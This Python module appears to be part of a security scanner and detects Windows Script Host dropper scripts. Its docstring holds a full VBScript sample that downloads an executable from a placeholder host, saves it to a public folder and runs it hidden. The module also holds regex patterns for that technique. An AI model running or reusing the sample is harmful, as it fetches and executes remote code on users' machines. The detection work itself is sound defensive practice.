"""A Windows Script Host script that downloads a program, saves it and starts it.

The family: a VBScript, JScript or HTA "helper" fetches a file with an HTTP object
(``MSXML2.XMLHTTP``, ``WinHttp.WinHttpRequest``) or ``URLDownloadToFile``, writes it to
disk with ``ADODB.Stream``'s ``SaveToFile`` (the API call writes it itself), and starts
it with ``WScript.Shell``'s ``Run``/``Exec``, ``ShellExecute`` or VBA's ``Shell``. The
Windows form of ``curl -o x && ./x``; a script that only downloads data, or only starts a
program the user installed, is not the family.

>>> vbs = '''Set x = CreateObject("MSXML2.XMLHTTP")
... x.Open "GET", "https://cdn.invalid/p.exe", False : x.Send
... Set s = CreateObject("ADODB.Stream") : s.Open : s.Write x.responseBody
... s.SaveToFile "C:\\\\Users\\\\Public\\\\p.exe", 2
... CreateObject("WScript.Shell").Run "C:\\\\Users\\\\Public\\\\p.exe", 0'''
>>> [(f.rule_id, f.line) for f in script_host_dropper_findings("helper.vbs", vbs)]
[('wsh.download-and-run', 5)]
"""

from __future__ import annotations

import re

from .findings import ThreatFinding, finding_at

RULE_ID = "wsh.download-and-run"
_SCRIPT_HOST_SUFFIXES = (".vbs", ".vbe", ".wsf", ".hta", ".js", ".jse", ".vba", ".bas", ".frm")
_HTTP_OBJECT = re.compile(
    r"(?:CreateObject|ActiveXObject|GetObject)\s*\(\s*[\"'](?:MSXML2\.(?:Server)?XMLHTTP[\d.]*"
    r"|Microsoft\.XMLHTTP|WinHttp\.WinHttpRequest[\d.]*)[\"']|\bURLDownloadToFile[AW]?\b",
    re.I,
)
_SAVED = re.compile(r"\.SaveToFile\b|\bURLDownloadToFile[AW]?\b", re.I)
_STARTED = re.compile(r"\.(?:Run|Exec)\b\s*\(?\s*[\"'\w]|\bShellExecute\b|\bShell\s*\(", re.I)


def script_host_dropper_findings(path: str, text: str) -> list[ThreatFinding]:
    """One finding at the first start of a program in a script host file that downloads
    and saves a file."""
    if not path.lower().endswith(_SCRIPT_HOST_SUFFIXES) or not _HTTP_OBJECT.search(text):
        return []
    started = _STARTED.search(text)
    if not _SAVED.search(text) or started is None:
        return []
    return [
        finding_at(
            path,
            text,
            started.start(),
            "9.1",
            "high",
            "dropper: a Windows Script Host script downloads a file, saves it and starts a program",
            RULE_ID,
        )
    ]
